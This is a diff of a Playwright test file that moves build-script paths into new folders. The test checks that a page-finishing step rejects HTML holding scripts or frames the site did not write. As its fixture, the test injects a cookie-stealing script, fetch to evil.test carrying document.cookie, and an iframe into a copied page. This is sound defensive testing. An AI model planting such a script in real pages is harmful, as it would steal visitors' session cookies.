@@ -4,8 +4,8 @@ import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync }
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { expect, test } from '@playwright/test';
-import { withoutFramework } from '../scripts/html-first';
-import { headerRules } from '../scripts/serve';
+import { withoutFramework } from '../scripts/build/html-first';
+import { headerRules } from '../scripts/author/serve';
 import { pageTypes } from './content';
 
 /** The headers vercel.json gives a path, matched as Vercel matches them. */
@@ -55,13 +55,13 @@ test('the pages step fails the build on a page holding a script or frame the sit
   const dir = mkdtempSync(join(tmpdir(), 'pin-'));
   try {
     for (const page of ['index.html', 'about.html', 'search.html', 'share.html']) cpSync(join('out', page), join(dir, page));
-    const clean = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/finish-pages.ts', dir], { encoding: 'utf8' });
+    const clean = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/build/finish-pages.ts', dir], { encoding: 'utf8' });
     expect(clean.status, clean.stderr).toBe(0);
 
     const about = readFileSync(join(dir, 'about.html'), 'utf8');
     writeFileSync(join(dir, 'about.html'), about.replace('</main>', '<script>fetch("https://evil.test/?c="+document.cookie)</script><iframe src="https://evil.test"></iframe></main>'));
     const home = readFileSync(join(dir, 'index.html'), 'utf8');
-    const refused = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/finish-pages.ts', dir], { encoding: 'utf8' });
+    const refused = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/build/finish-pages.ts', dir], { encoding: 'utf8' });
     expect(refused.status).toBe(1);
     expect(refused.stderr).toContain(`${join(dir, 'about.html')}: an inline script the site did not write: "fetch(\\"https://evil.test/?c=\\"+document.cookie)"`);
     expect(refused.stderr).toContain(`${join(dir, 'about.html')}: <iframe> loading "https://evil.test"`);
@@ -72,7 +72,7 @@ test('the pages step fails the build on a page holding a script or frame the sit
     // The share page without its framework scripts is refused too: it needs React.
     writeFileSync(join(dir, 'about.html'), about);
     writeFileSync(join(dir, 'share.html'), withoutFramework(readFileSync(join(dir, 'share.html'), 'utf8')));
-    const lost = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/finish-pages.ts', dir], { encoding: 'utf8' });
+    const lost = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/build/finish-pages.ts', dir], { encoding: 'utf8' });
     expect(lost.status).toBe(1);
     expect(lost.stderr).toContain(`${join(dir, 'share.html')}: needs React in the browser (INTERACTIVE_PATHS) but carries no framework script`);
   } finally {
